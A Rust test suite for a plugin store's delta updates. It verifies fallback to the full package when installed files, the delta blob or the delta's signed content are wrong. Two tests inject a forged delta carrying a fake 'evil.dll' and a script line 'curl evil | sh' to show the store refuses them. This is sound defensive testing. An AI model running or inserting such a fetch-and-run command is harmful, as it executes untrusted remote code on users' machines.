//! Delta updates end to end: a real registry whose builder publishes deltas, served
//! from memory on 127.0.0.1 by the fault server (which records every request), and
//! the store updating through the delta, or falling back to the full package when the
//! installed files, the delta blob or the delta's content are wrong.

#![allow(clippy::unwrap_used)]

mod common;

use std::io::Write;
use std::path::Path;
use std::sync::Arc;

use common::{Plugin, Site};
use semver::Version;
use trellis_client::events::{ChannelReporter, Event};
use trellis_client::hooks::RecordingHooks;
use trellis_client::store::{AlwaysAgree, Session, Store, StoreOptions, install::parse_requirement};
use trellis_index::build::{PreviousSite, Scope, build_registry};
use trellis_index::registry::Registry;
use trellis_schema::delta::{Compression, DataRange, DeltaFile, DeltaHeader, DeltaOp, encode};
use trellis_schema::index::IndexDoc;
use trellis_schema::{PluginId, Sha256};
use trellis_tests::fault_server::{Fault, FaultServer};

fn id(s: &str) -> PluginId {
    s.parse().unwrap()
}

fn v(s: &str) -> Version {
    s.parse().unwrap()
}

/// A plugin whose entry point is ~200 KB of text, so that a small change makes a
/// delta far smaller than the package.
fn big(version: &str, edited: bool) -> Plugin {
    let mut script = String::from("#!/bin/sh\n");
    for line in 0..4_000u32 {
        let word = line.wrapping_mul(2_654_435_761).rotate_left(line % 32);
        let text = if edited && line % 1_000 == 7 { "changed in 1.1.0".to_owned() } else { format!("{word:08x}") };
        script.push_str(&format!("# line {line}: {text} {}\n", word ^ 0x5a5a_5a5a));
    }
    Plugin { script, ..Plugin::new("acme.clock", version) }
}

/// The site's files served from memory, so that requests are recorded and faults injected.
struct Served {
    site: Site,
    server: FaultServer,
}

impl Served {
    fn new() -> Self {
        let site = Site::new();
        site.publish(&[big("1.0.0", false)]);
        let server = FaultServer::start().unwrap();
        let this = Self { site, server };
        this.sync();
        this
    }

    /// Serves the current site files.
    fn sync(&self) {
        for file in common::walk(self.site.site.path()) {
            let relative = file.strip_prefix(self.site.site.path()).unwrap().to_string_lossy().replace('\\', "/");
            self.server.put(&format!("/{relative}"), std::fs::read(&file).unwrap());
        }
    }

    fn publish(&self, plugin: Plugin) {
        self.site.publish(&[plugin]);
        self.sync();
    }

    /// The store in `data` (a store reads the registry once per life: reopen it
    /// after publishing, as a host app restarting would).
    fn store(&self, data: &Path) -> Store {
        let mut store = Store::open(data, StoreOptions::new(common::host())).unwrap();
        if store.registries().registries.is_empty() {
            store.add_registry("main", &self.server.url(), &self.site.root()).unwrap();
        }
        store
    }

    /// The index doc of acme.clock the site publishes now (found through its bin).
    fn doc(&self) -> IndexDoc {
        let dir = self.site.site.path();
        let bits = Registry::open(self.site.registry.path()).unwrap().config.bin_bits;
        let target = trellis_index::site::index_target(&id("acme.clock"));
        let bin = trellis_index::site::bin_for_target(&target, bits, trellis_index::tuf::BIN_PREFIX);
        let role = PreviousSite::open(dir).unwrap().unwrap().role(&bin).unwrap().unwrap();
        let sha: Sha256 = role.signed.targets[&target].hashes["sha256"].parse().unwrap();
        let bytes = std::fs::read(trellis_index::site::target_file(dir, &target, &sha)).unwrap();
        serde_json::from_slice(&bytes).unwrap()
    }

    /// Requests of files whose path ends with `suffix`.
    fn hits(&self, suffix: &str) -> usize {
        self.server.hits().iter().filter(|h| h.path.ends_with(suffix) && h.status == 200).count()
    }
}

/// Installs acme.clock 1.0.0 into `data`.
fn install(site: &Served, data: &Path) {
    let mut store = site.store(data);
    let hooks = RecordingHooks::new();
    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
}

fn update(store: &mut Store) -> (trellis_client::store::UpdateReport, Vec<Event>) {
    let hooks = RecordingHooks::new();
    let (reporter, events) = ChannelReporter::new();
    let session = Session::new(&hooks, &AlwaysAgree).with_reporter(Arc::new(reporter));
    let report = store.update(&[], &session).unwrap();
    drop(session);
    (report, events.try_iter().collect())
}

/// The files of the active clock release are exactly the 1.1.0 package's and verify.
fn assert_updated(store: &Store) {
    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0"));
    let script = std::fs::read_to_string(dir.join("bin/any/run.sh")).unwrap();
    assert_eq!(script, big("1.1.0", true).script);
    #[cfg(unix)]
    {
        // The package marks bin/ executable; a release rebuilt from a delta must too.
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(dir.join("bin/any/run.sh")).unwrap().permissions().mode();
        assert_eq!(mode & 0o111, 0o111, "mode {mode:o}");
        let mode = std::fs::metadata(dir.join("LICENSE")).unwrap().permissions().mode();
        assert_eq!(mode & 0o111, 0, "mode {mode:o}");
    }
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.1.0"));
    let reports = store.verify(&[]).unwrap();
    assert!(reports.iter().all(|r| r.problems.is_empty()), "{reports:?}");
    let files = common::files(&dir);
    assert_eq!(
        files.into_iter().collect::<Vec<_>>(),
        [
            "LICENSE",
            "bin/any/run.sh",
            "plugin.json",
            "trellis-manifest.json",
            "trellis-publisher.json",
            "trellis-release.dsse"
        ]
    );
}

fn fallback_reasons(events: &[Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            Event::DeltaFallback { reason, .. } => Some(reason.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn builder_publishes_a_small_delta_and_the_update_downloads_only_it() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    install(&site, data.path());
    site.publish(big("1.1.0", true));
    let mut store = site.store(data.path());

    let doc = site.doc();
    let release = doc.release(&v("1.1.0")).unwrap();
    assert_eq!(release.deltas.len(), 1, "{:?}", release.deltas);
    let delta = &release.deltas[0];
    assert_eq!((delta.from.clone(), delta.blob.path.as_str()), (v("1.0.0"), "deltas/acme.clock/1.0.0_1.1.0.delta"));
    assert!(delta.blob.length * 10 < release.package.length, "{} vs {}", delta.blob.length, release.package.length);

    site.server.reset_counters();
    let (report, events) = update(&mut store);

    assert_eq!(report.updated, vec![(id("acme.clock"), v("1.0.0"), v("1.1.0"))], "{report:?} {events:?}");
    let transfer = &report.transfers[0];
    assert_eq!(transfer.delta_from, Some(v("1.0.0")));
    assert_eq!((transfer.bytes, transfer.package_bytes), (delta.blob.length, release.package.length));
    assert_eq!(site.hits(".1.0.0_1.1.0.delta"), 1);
    assert_eq!(site.hits(".acme.clock-1.1.0.zip"), 0, "{:?}", site.server.hits());
    // Everything the update fetched (metadata, index doc, envelope, delta) is less
    // than the package alone.
    assert!(site.server.bytes_sent() < release.package.length, "{} bytes", site.server.bytes_sent());
    assert!(events.iter().any(|e| matches!(e, Event::Delta { from, delta_bytes, .. }
        if from == &v("1.0.0") && *delta_bytes == delta.blob.length)));
    assert!(fallback_reasons(&events).is_empty(), "{:?}", fallback_reasons(&events));
    assert_updated(&store);
    // No staging directory is left in the plugin's directory.
    let plugin_dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0")).parent().unwrap().to_owned();
    let leftovers: Vec<String> = std::fs::read_dir(&plugin_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".trellis"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    let staging = data.path().join("cache/delta-staging");
    assert_eq!(std::fs::read_dir(&staging).unwrap().count(), 0, "{}", staging.display());
}

#[test]
fn tampered_installed_file_falls_back_to_the_package() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    install(&site, data.path());
    site.publish(big("1.1.0", true));
    let mut store = site.store(data.path());
    let old = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    std::fs::write(old.join("bin/any/run.sh"), "#!/bin/sh\necho tampered\n").unwrap();

    site.server.reset_counters();
    let (report, events) = update(&mut store);

    assert_eq!(report.updated, vec![(id("acme.clock"), v("1.0.0"), v("1.1.0"))]);
    let reasons = fallback_reasons(&events);
    assert!(reasons.len() == 1 && reasons[0].contains("does not verify"), "{reasons:?}");
    assert!(reasons[0].contains("bin/any/run.sh"), "{reasons:?}");
    // The delta was not even downloaded; the package was.
    assert_eq!(site.hits(".1.0.0_1.1.0.delta"), 0);
    assert_eq!(site.hits(".acme.clock-1.1.0.zip"), 1);
    assert_eq!(report.transfers[0].delta_from, None);
    assert_updated(&store);
}

#[test]
fn corrupt_delta_blob_is_refused_by_its_signed_hash_and_the_package_is_used() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    install(&site, data.path());
    site.publish(big("1.1.0", true));
    let mut store = site.store(data.path());
    let delta_file = site.site.blob_files(".1.0.0_1.1.0.delta").pop().unwrap();
    let relative = delta_file.strip_prefix(site.site.site.path()).unwrap().to_string_lossy().replace('\\', "/");
    site.server.fault(&format!("/{relative}"), Fault::FlipByte);

    let (report, events) = update(&mut store);

    let reasons = fallback_reasons(&events);
    assert!(reasons.len() == 1 && reasons[0].contains("downloading the delta failed"), "{reasons:?}");
    assert!(reasons[0].to_lowercase().contains("hash") || reasons[0].contains("sha256"), "{reasons:?}");
    assert_eq!(site.hits(".acme.clock-1.1.0.zip"), 1);
    assert_eq!(report.transfers[0].delta_from, None);
    assert_updated(&store);
}

/// Replaces the delta 1.0.0 → 1.1.0 with `bytes`, signed by the registry's online
/// bins key, as an attacker holding that key could: the published index doc edited to
/// name the new delta, written at its own content address, and its bin's entry edited
/// to list it; the next build made past the bin's half-life re-signs the bin with that
/// entry (a build reads a published doc only with the digest its bin lists, so the
/// bin has to say so).
fn inject_delta(site: &Served, bytes: &[u8]) {
    let dir = site.site.site.path();
    let sha = Sha256::of(bytes);
    let path = trellis_index::site::target_file(dir, "deltas/acme.clock/1.0.0_1.1.0.delta", &sha);
    std::fs::write(&path, bytes).unwrap();
    let current = site.doc();
    let mut doc = current.clone();
    let release = doc.releases.iter_mut().find(|r| r.version == v("1.1.0")).unwrap();
    release.deltas[0].blob.sha256 = sha;
    release.deltas[0].blob.length = bytes.len() as u64;
    let (was, now) = (serde_json::to_vec(&current).unwrap(), serde_json::to_vec(&doc).unwrap());
    let target = trellis_index::site::index_target(&id("acme.clock"));
    assert_eq!(std::fs::read(trellis_index::site::target_file(dir, &target, &Sha256::of(&was))).unwrap(), was);
    std::fs::write(trellis_index::site::target_file(dir, &target, &Sha256::of(&now)), &now).unwrap();
    let entry = |bytes: &[u8]| format!("\"sha256\":\"{}\"}},\"length\":{}", Sha256::of(bytes), bytes.len());
    let bin = common::walk(&dir.join("metadata"))
        .into_iter()
        .filter(|p| std::fs::read_to_string(p).unwrap().contains(&entry(&was)))
        .max_by_key(|p| std::fs::metadata(p).unwrap().modified().unwrap())
        .expect("the bin listing acme.clock's doc");
    let listed = std::fs::read_to_string(&bin).unwrap().replace(&entry(&was), &entry(&now));
    std::fs::write(&bin, listed).unwrap();
    let registry = Registry::open(site.site.registry.path()).unwrap();
    let past_half_life = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(46 * 24);
    build_registry(&registry, dir, Scope::Full, past_half_life).unwrap();
    site.sync();
    assert_eq!(site.doc().release(&v("1.1.0")).unwrap().deltas[0].blob.sha256, sha);
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A delta 1.0.0 → 1.1.0 copying every old file, plus `extra` literal files.
fn evil_delta(site: &Served, literals: &[(&str, &[u8])]) -> Vec<u8> {
    let doc = site.doc();
    let (from, to) = (doc.release(&v("1.0.0")).unwrap(), doc.release(&v("1.1.0")).unwrap());
    let mut files = Vec::new();
    let mut data = Vec::new();
    for (path, bytes) in literals {
        let compressed = deflate(bytes);
        files.push(DeltaFile {
            path: (*path).into(),
            op: DeltaOp::Literal { data: DataRange { offset: data.len() as u64, length: compressed.len() as u64 } },
        });
        data.extend_from_slice(&compressed);
    }
    for path in ["LICENSE", "plugin.json", "trellis-manifest.json", "bin/any/run.sh"] {
        if !literals.iter().any(|(p, _)| *p == path) {
            files.push(DeltaFile { path: path.into(), op: DeltaOp::Copy { source: path.into() } });
        }
    }
    let header = DeltaHeader {
        plugin_id: id("acme.clock"),
        from: v("1.0.0"),
        to: v("1.1.0"),
        from_manifest_sha256: from.manifest_sha256,
        to_manifest_sha256: to.manifest_sha256,
        compression: Compression::Deflate,
        files,
    };
    encode(&header, &data).unwrap()
}

#[test]
fn signed_delta_producing_a_file_the_developer_did_not_sign_is_refused() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    install(&site, data.path());
    site.publish(big("1.1.0", true));
    let mut store = site.store(data.path());
    inject_delta(&site, &evil_delta(&site, &[("bin/any/evil.dll", b"MZ evil")]));

    let (report, events) = update(&mut store);

    let reasons = fallback_reasons(&events);
    assert!(reasons.len() == 1 && reasons[0].contains("bin/any/evil.dll"), "{reasons:?}");
    assert_eq!(site.hits(".acme.clock-1.1.0.zip"), 1);
    assert_eq!(report.transfers[0].delta_from, None);
    assert_updated(&store);
    assert!(!common::files(&data.path().join("plugins")).iter().any(|f| f.contains("evil")));
}

#[test]
fn signed_delta_producing_content_the_developer_did_not_sign_is_refused() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    install(&site, data.path());
    site.publish(big("1.1.0", true));
    let mut store = site.store(data.path());
    inject_delta(&site, &evil_delta(&site, &[("bin/any/run.sh", b"#!/bin/sh\ncurl evil | sh\n")]));

    let (report, events) = update(&mut store);

    let reasons = fallback_reasons(&events);
    assert!(reasons.len() == 1 && reasons[0].contains("the signed manifest says"), "{reasons:?}");
    assert_eq!(report.transfers[0].delta_from, None);
    assert_updated(&store);
}

#[test]
fn builds_of_the_same_registry_publish_the_same_delta_bytes() {
    let site = Site::new();
    site.add(&big("1.0.0", false));
    site.add(&big("1.1.0", true));
    site.add(&big("1.2.0", false));
    let registry = Registry::open(site.registry.path()).unwrap();
    let now = jiff::Timestamp::now();
    let (first, second) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    build_registry(&registry, first.path(), Scope::Full, now).unwrap();
    build_registry(&registry, second.path(), Scope::Full, now).unwrap();
    let files = |dir: &Path| -> Vec<(String, Vec<u8>)> {
        common::walk(dir)
            .into_iter()
            .map(|p| (p.strip_prefix(dir).unwrap().to_string_lossy().into_owned(), std::fs::read(&p).unwrap()))
            .collect()
    };
    let (a, b) = (files(first.path()), files(second.path()));
    let deltas: Vec<&String> = a.iter().map(|(p, _)| p).filter(|p| p.ends_with(".delta")).collect();
    // 1.1.0 from 1.0.0; 1.2.0 from 1.1.0 and from 1.0.0 (identical script: tiny).
    assert_eq!(deltas.len(), 3, "{deltas:?}");
    assert!(a == b, "two builds of the same registry differ");
    // A rebuild over the published site reuses the deltas: nothing is rewritten.
    let report = build_registry(&registry, first.path(), Scope::Full, now).unwrap();
    assert!(report.written.is_empty(), "{:?}", report.written);
    // An incremental build of the plugin with a new release makes only its deltas and
    // keeps the published ones.
    site.add(&big("1.3.0", true));
    let registry = Registry::open(site.registry.path()).unwrap();
    let only = Scope::Plugins([id("acme.clock")].into());
    let report = build_registry(&registry, first.path(), only, now).unwrap();
    let new_deltas: Vec<&String> = report.written.iter().filter(|p| p.ends_with(".delta")).collect();
    assert_eq!(new_deltas.len(), 2, "{new_deltas:?}");
    assert!(new_deltas.iter().all(|p| p.contains("_1.3.0.delta")), "{new_deltas:?}");
    let after = files(first.path());
    for (path, bytes) in a.iter().filter(|(p, _)| p.ends_with(".delta")) {
        assert!(after.iter().any(|(p, b)| p == path && b == bytes), "{path} changed or vanished");
    }
    let site_dir = first.path();
    let doc_deltas: usize = {
        let bits = registry.config.bin_bits;
        let target = trellis_index::site::index_target(&id("acme.clock"));
        let bin = trellis_index::site::bin_for_target(&target, bits, trellis_index::tuf::BIN_PREFIX);
        let role = PreviousSite::open(site_dir).unwrap().unwrap().role(&bin).unwrap().unwrap();
        let sha: Sha256 = role.signed.targets[&target].hashes["sha256"].parse().unwrap();
        let doc: IndexDoc =
            serde_json::from_slice(&std::fs::read(trellis_index::site::target_file(site_dir, &target, &sha)).unwrap())
                .unwrap();
        doc.releases.iter().map(|r| r.deltas.len()).sum()
    };
    assert_eq!(doc_deltas, 5);
    // The site audits clean: every delta an index doc lists is in the site with the
    // listed length and SHA-256.
    let audit = trellis_index::verify::verify(&trellis_index::verify::Source::Dir(site_dir.to_owned()), None, now);
    assert!(audit.problems.is_empty(), "{:?}", audit.problems);
}

#[test]
fn cli_update_says_it_used_a_delta_and_how_many_bytes_it_saved() {
    let site = Served::new();
    let data = tempfile::tempdir().unwrap();
    let root = data.path().join("root.json");
    std::fs::write(&root, site.site.root()).unwrap();
    let bin = common::trellis_bin();
    let run = |args: &[&str]| {
        let out = std::process::Command::new(&bin)
            .arg("--data-dir")
            .arg(data.path().join("store"))
            .args(args)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(out.status.success(), "trellis {args:?}: {text}{}", String::from_utf8_lossy(&out.stderr));
        text
    };
    run(&["registry", "add", "main", &site.server.url(), "--root", root.to_str().unwrap()]);
    run(&["--yes", "install", "acme.clock"]);
    site.publish(big("1.1.0", true));

    let text = run(&["--yes", "update"]);

    let release = site.doc().release(&v("1.1.0")).unwrap().clone();
    let kb = |bytes: u64| format!("{:.1} KB", bytes as f64 / 1e3);
    let expected = format!(
        "updated acme.clock 1.0.0 -> 1.1.0 (delta, {} instead of {})",
        kb(release.deltas[0].blob.length),
        kb(release.package.length)
    );
    assert!(text.contains(&expected), "{text}");
}
